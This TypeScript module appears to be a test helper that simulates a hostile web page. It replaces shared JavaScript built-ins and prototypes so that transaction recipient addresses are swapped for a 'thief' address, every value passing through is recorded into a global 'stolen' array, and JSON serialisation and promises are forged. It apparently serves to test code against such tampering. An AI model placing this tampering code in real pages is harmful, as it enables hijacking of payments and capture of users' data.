/** Address that a hostile page puts into requests in place of the real recipient. */
export const thief: `0x${string}` = `0x${'6'.repeat(40)}`

/**
 * Runs in a page: replaces the primordials that all its scripts share, all or only some. Each replacement
 * tries to insert the thief's address, records all values that pass, and else behaves as before.
 */
export const mutate = (only?: number): number => {
  const bad = `0x${'6'.repeat(40)}`
  const stolen: unknown[] = ((window as unknown as { stolen?: unknown[] }).stolen ??= [])
  const { apply, ownKeys, getOwnPropertyDescriptor } = Reflect
  const { defineProperty } = Object
  // oxlint-disable-next-line typescript/unbound-method -- taken before it is replaced
  const nativeReplace = String.prototype.replace
  const replace = (text: string) => apply(nativeReplace, text, [/0x1{40}/g, bad]) as string
  const define = (owner: object, name: PropertyKey, field: object) =>
    defineProperty(owner, name, { __proto__: null, ...field } as PropertyDescriptor)
  const keep = (value: unknown) =>
    define(stolen, stolen.length, { __proto__: null, value, writable: true, configurable: true })
  const forge = (value: unknown): unknown => (typeof value === 'string' ? replace(value) : value)
  const owners: object[] = [
    JSON,
    Reflect,
    Object,
    Array,
    Promise,
    Object.prototype,
    Array.prototype,
    Function.prototype,
    Map.prototype,
    Set.prototype,
    Promise.prototype,
    String.prototype,
    MessagePort.prototype,
    EventTarget.prototype,
    Error,
  ]
  const changes: (() => void)[] = []
  for (const owner of owners)
    for (const key of ownKeys(owner)) {
      const before = getOwnPropertyDescriptor(owner, key)
      const original: unknown = before?.value
      // Classes of the page stand in their place, below.
      const isClass = key === 'constructor' || key === 'prototype'
      if (!before?.configurable || typeof original !== 'function' || isClass) continue
      changes.push(() =>
        define(owner, key, {
          ...before,
          value: function (this: unknown, ...args: unknown[]) {
            const given: unknown[] = []
            for (let at = 0; at < args.length; at++) given[at] = forge(args[at])
            for (let at = 0; at < args.length; at++) keep(args[at])
            return forge(apply(original as () => unknown, this, given))
          },
        }),
      )
    }
  const give = (owner: object, name: PropertyKey, field: PropertyDescriptor) =>
    changes.push(() => define(owner, name, { configurable: true, ...field }))
  const toJSON = { value: () => [{ to: bad }] }
  give(Object.prototype, 'toJSON', toJSON)
  give(Array.prototype, 'toJSON', toJSON)
  give(String.prototype, 'toJSON', toJSON)
  give(MessageEvent.prototype, 'data', { get: () => stolen })
  const NativePromise = Promise
  /** Sees, and forges, what every promise that it makes is settled with. */
  const Spy = class extends NativePromise<unknown> {
    constructor(
      run: (resolve: (value: unknown) => void, reject: (error: unknown) => void) => void,
    ) {
      super((resolve, reject) =>
        run((value) => {
          keep(value)
          resolve(forge(value))
        }, reject),
      )
    }
  }
  give(Promise.prototype, 'constructor', { value: Spy, writable: true })
  give(Promise, Symbol.species, { get: () => Spy })
  give(window, 'Promise', { value: Spy, writable: true })
  for (const name of ['JSON', 'Promise', 'Array', 'Map', 'Object', 'Reflect', 'Error'])
    give(window, name, {
      value: class {
        readonly to = bad
      },
      writable: true,
    })
  for (const name of ['0', 'to', 'wire', 'value', 'get'])
    give(Object.prototype, name, {
      get: () => bad,
      set: keep,
    })
  if (only === undefined) for (let at = 0; at < changes.length; at++) changes[at]?.()
  else changes[only]?.()
  return changes.length
}
